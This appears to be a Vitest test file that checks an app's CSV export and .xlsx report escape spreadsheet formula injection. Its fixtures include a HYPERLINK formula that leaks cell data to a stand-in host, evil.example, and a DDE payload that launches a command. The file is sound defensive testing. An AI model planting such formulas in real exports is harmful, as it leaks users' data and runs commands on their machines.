import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { seededSuite } from '../support/app.ts';
import { testDatabases } from '../support/databases.ts';
import { loginAs, type Client } from '../support/session.ts';

/** Cells a spreadsheet program would run as formulas; the first one passed the old CSV escaping. */
const FORMULAS = [
  '-1+HYPERLINK("http://evil.example/?leak="&A1,"点击")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '@SUM(A1:A2)',
  '-A1*2',
];

/** Splits one CSV line into its cells (RFC 4180 quoting). */
function csvCells(line: string): string[] {
  const cells: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (quoted && ch === '"' && line[i + 1] === '"') {
      cur += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (ch === ',' && !quoted) {
      cells.push(cur);
      cur = '';
    } else {
      cur += ch;
    }
  }
  cells.push(cur);
  return cells;
}

describe.each(testDatabases)('formulas in CSV and .xlsx on $kind (issue 12, break 4)', ({ create }) => {
  const s = seededSuite(create);
  let admin: Client;

  beforeAll(async () => {
    admin = await loginAs(s.app, s.db, 'admin');
    for (const [k, name] of FORMULAS.entries()) {
      const res = await admin.request('POST', '/api/projects', {
        planId: s.planId,
        code: `ZZ-F${k}`,
        name,
        category: '产业',
        investmentUnit: k === 0 ? '-2+2' : '-3.5',
        startYear: 2021,
        endYear: 2025,
        totalInvestment: 5,
      });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
    }
  });

  it('neutralises every formula cell of the public CSV, plain negative numbers excepted', async () => {
    const res = await s.app.request(`/api/public/projects.csv?planId=${s.planId}`);
    expect(res.status).toBe(200);
    const lines = (await res.text()).split('\r\n');
    const rows = lines.map(csvCells).filter((r) => r[0]?.startsWith('ZZ-F'));
    expect(rows.map((r) => r[1])).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(rows[0]![5]).toBe("'-2+2");
    // a plain number stays a number
    expect(rows[1]![5]).toBe('-3.5');
  });

  it('neutralises formula text in the generated .xlsx report', async () => {
    const id = await projectId('ZZ-F0');
    const investment = await admin.request('POST', `/api/projects/${id}/investments`, {
      items: [{ year: 2023, planned: 3, completed: 2 }],
    });
    expect(investment.status).toBe(200);
    const progress = await admin.request('POST', `/api/projects/${id}/progress`, {
      year: 2023,
      quarter: 4,
      percent: 10,
      text: '=HYPERLINK("http://evil.example","进展")',
    });
    expect(progress.status).toBe(201);
    const res = await s.app.request(`/api/plans/${s.planId}/report.xlsx?year=2023&kind=annual`, {
      headers: { cookie: admin.cookie },
    });
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ArrayBuffer);
    const texts: string[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          if (typeof cell.value === 'string') texts.push(cell.value);
          if (cell.formula) texts.push(`FORMULA ${cell.formula}`);
        }),
      ),
    );
    const risky = texts.filter((t) => /^[=+\-@\t\r]/.test(t) && !/^[+-]?[\d.,]+%?$/.test(t));
    expect(risky).toEqual([]);
    expect(texts.filter((t) => t.includes('HYPERLINK')).length).toBeGreaterThan(0);
    expect(texts.filter((t) => t.startsWith("'-1+HYPERLINK"))).toHaveLength(1);
  });

  const projectId = async (code: string) => {
    const list = await admin.request('GET', `/api/projects?planId=${s.planId}`);
    return (list.body.items as { id: string; code: string }[]).find((p) => p.code === code)!.id;
  };
});
